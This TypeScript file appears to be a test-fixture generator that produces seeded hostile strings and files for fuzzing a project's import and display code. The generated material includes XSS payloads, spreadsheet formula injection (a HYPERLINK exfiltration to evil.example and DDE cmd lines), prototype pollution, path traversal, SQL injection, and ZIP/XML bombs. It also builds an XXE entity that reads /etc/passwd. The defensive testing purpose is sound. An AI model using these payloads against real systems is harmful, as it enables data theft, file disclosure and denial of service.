/** Names, texts and files as nobody nice would send them; seeded, so that a failure is made again by its seed. */
import { deflateRawSync, gzipSync } from 'node:zlib';
import type { Random } from '../simulators/core/random.ts';

/** Set by any script that runs; looked for after everything. */
export const MARKER = 'sanfenHostile';
const RUN = `globalThis.${MARKER}=1`;

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `"><iframe srcdoc="<script>parent.${MARKER}=1</script>">`,
  `' autofocus onfocus='${RUN}' x='`,
  `javascript:${RUN}`,
  `<x-hostile data-hostile="1">`,
  `</textarea><style>*{display:none}</style>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  '&lt;b&gt;&#x3c;script&#x3e;',
  `<![CDATA[<x-hostile>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${7*7}{n}{name|one|other}{0}',
];
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  'a;=1+1',
  'a","=1+1',
  '"=1+1"',
];
const BIDI = [
  '\u202Egnp.exe',
  '\u2066\u202Etxt\u2069',
  '\u2069\u2069\u202Eabc',
  'שלום',
  'مرحبا',
  '\u200F\u061Cx',
];
const ODD = [
  '\u200B\u200D\u2060\uFEFF',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDC00y',
  '\uFFFE\uFFFF',
  '\u001B[31m',
  'Z\u0351\u0300\u0301\u0302\u0303\u0304'.repeat(5),
  '👨‍👩‍👧‍👦🏳️‍🌈',
  '\u2028\u2029',
  '\u3164\u115F',
  'ﷺ﷽',
  'ẛ̣ǆﬃ',
];
const WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '../../etc/passwd',
  'CON',
  'a\\b:c*d?e"f<g>h|i',
  'sanfen-2026-01-01-a.gz',
  '%s%n%x',
  "'; DROP TABLE events; --",
  '和'.repeat(31),
  '1'.repeat(400),
  ' '.repeat(300),
  '',
];
const KINDS = [MARKUP, FORMULAS, BIDI, ODD, WORDS];

function rubbish(random: Random): string {
  return Array.from({ length: random.int(1, 40) }, () =>
    String.fromCharCode(random.int(0, 0xffff)),
  ).join('');
}

/** One text; at most some hundred characters. */
export function hostileText(random: Random): string {
  const some = (): string =>
    random.chance(0.15) ? rubbish(random) : random.pick(random.pick(KINDS));
  return Array.from({ length: random.pick([1, 1, 1, 2, 3]) }, some).join('');
}

/** So many, no two alike, each with a number in it that finds it again. */
export function hostileTexts(random: Random, count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const text = hostileText(random);
    return random.chance(0.5) ? `${text}#${index}` : `${text}${index}#${hostileText(random)}`;
  });
}

/** Nested so deep. */
export const deepJson = (depth: number): string => '['.repeat(depth) + ']'.repeat(depth);

type Members = Readonly<Record<string, Buffer | string>>;

/** A ZIP of these members, each said to be as large as it is. */
export function zip(members: Members): Uint8Array<ArrayBuffer> {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const [path, content] of Object.entries(members)) {
    const raw = typeof content === 'string' ? Buffer.from(content) : content;
    const data = deflateRawSync(raw);
    const name = Buffer.from(path);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    for (const [buffer, from] of [
      [head, 4],
      [entry, 6],
    ] as const) {
      buffer.writeUInt16LE(20, from);
      buffer.writeUInt16LE(8, from + 4);
      buffer.writeUInt32LE(data.length, from + 14);
      buffer.writeUInt32LE(raw.length, from + 18);
      buffer.writeUInt16LE(name.length, from + 22);
    }
    entry.writeUInt32LE(at, 42);
    parts.push(head, name, data);
    directory.push(entry, name);
    at += head.length + name.length + data.length;
  }
  const middle = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(members).length, 8);
  end.writeUInt16LE(Object.keys(members).length, 10);
  end.writeUInt32LE(middle.length, 12);
  end.writeUInt32LE(at, 16);
  return new Uint8Array(Buffer.concat([...parts, middle, end]));
}

const OFFICE = 'http://schemas.openxmlformats.org';
const SHEET = 'xl/worksheets/sheet1.xml';

/** A workbook of one sheet, which is given as it stands. */
export function workbook(sheet: string | Buffer): Uint8Array<ArrayBuffer> {
  return zip({
    '[Content_Types].xml': `<Types xmlns="${OFFICE}/package/2006/content-types"/>`,
    'xl/workbook.xml': `<workbook xmlns="${OFFICE}/spreadsheetml/2006/main" xmlns:r="${OFFICE}/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${OFFICE}/package/2006/relationships"><Relationship Id="rId1" Type="${OFFICE}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    [SHEET]: sheet,
  });
}

const sheetOf = (rows: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<worksheet xmlns="${OFFICE}/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const cellAt = (place: string, text = 'x'): string =>
  `<row r="${/\d+/.exec(place)?.[0] ?? 1}"><c r="${place}" t="inlineStr"><is><t>${text}</t></is></c></row>`;

const LAUGHS = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join('');

/** Workbooks that are small as files and nothing else; made once, `inflated` in bytes. */
export function bombs(inflated: number): Record<string, Uint8Array<ArrayBuffer>> {
  return {
    'blanks without end': workbook(Buffer.alloc(inflated, 0x20)),
    'elements in each other': workbook('<a>'.repeat(inflated / 16)),
    'a cell at the end of the world': workbook(sheetOf(cellAt('A1') + cellAt('XFD1048576'))),
    'its place written otherwise': workbook(sheetOf(cellAt('A1') + cellAt('&#88;FD1048576'))),
    'a row far down': workbook(sheetOf(cellAt('IV119999'))),
    'entities of entities': workbook(
      sheetOf(cellAt('A1', '&l9;'), `<!DOCTYPE x [<!ENTITY l0 "ha">${LAUGHS}]>`),
    ),
    'an entity from elsewhere': workbook(
      sheetOf(cellAt('A1', '&e;'), '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    ),
    'a torn tag': workbook('<worksheet><sheetData><row r="1'),
    'no sheet at all': zip({ 'a.txt': 'x' }),
    formulas: workbook(sheetOf('<row r="1"><c r="A1"><f>HYPERLINK("x")</f><v>1</v></c></row>')),
  };
}

/** A file for any of the imports; most are nearly right. */
export function hostileFile(random: Random): Uint8Array<ArrayBuffer> {
  const text = (): string => hostileText(random);
  const object = (): string =>
    `{${[
      `"__proto__":{"polluted":1}`,
      `"constructor":${JSON.stringify(text())}`,
      `"type":${JSON.stringify(random.pick(['message', 'waiting', 'profile', 'week', '__proto__']))}`,
      `"v":1,"key":${JSON.stringify(text() || 'k')},"console":${JSON.stringify(random.pick(['1688', 'custom:x', text()]))}`,
      `"at":${random.pick(['"2026-11-20T01:00:00Z"', '1e999', '"x"', deepJson(200)])}`,
      `"role":"buyer","kind":"text","conversation":${JSON.stringify(text())}`,
      `"extra":${random.chance(0.2) ? deepJson(5_000) : JSON.stringify(text())}`,
      `"format":"sanfen-backup","version":1,"part":${JSON.stringify(random.pick(['storage', 'rows', 'cases', 'phrases', 'end', '__proto__']))}`,
      `"row":{"id":${JSON.stringify(text())},"__proto__":{"polluted":1},"name":[1]}`,
      `"phrases":[{"text":${JSON.stringify(text())},"__proto__":{"polluted":1},"image":{"type":"image/svg+xml","data":"PHN2Zz4="}}]`,
    ]
      .filter(() => random.chance(0.85))
      .join(',')}}`;
  const lines = (): string =>
    Array.from({ length: random.int(1, 4) }, () => (random.chance(0.7) ? object() : text())).join(
      '\n',
    );
  const csv = (): string =>
    `${random.pick(['编码,内容,分组', '日期,客服,3分钟响应率', text()])}\n${Array.from(
      { length: random.int(1, 5) },
      () =>
        [text(), text(), text()]
          .map((cell) => (random.chance(0.8) ? `"${cell.replaceAll('"', '""')}"` : cell))
          .join(','),
    ).join('\n')}`;
  const made = random.pick([
    (): Buffer => Buffer.from(lines()),
    () => gzipSync(lines()),
    () => Buffer.from(csv()),
    () =>
      Buffer.from(
        `${random.pick(['', '{"phrases":', '[{"text":'])}${deepJson(random.int(1, 3_000))}`,
      ),
    () =>
      Buffer.from(workbook(sheetOf(cellAt(random.pick(['A1', 'ZZ9', 'A0', '1', 'XFE1']), text())))),
    () => Buffer.from(Array.from({ length: random.int(0, 400) }, () => random.int(0, 255))),
  ])();
  const whole = new Uint8Array(made);
  if (random.chance(0.7)) return whole;
  // Cut off, or a byte of it another.
  if (random.chance(0.5)) return whole.slice(0, random.int(0, whole.length));
  whole[random.int(0, Math.max(0, whole.length - 1))] = random.int(0, 255);
  return whole;
}
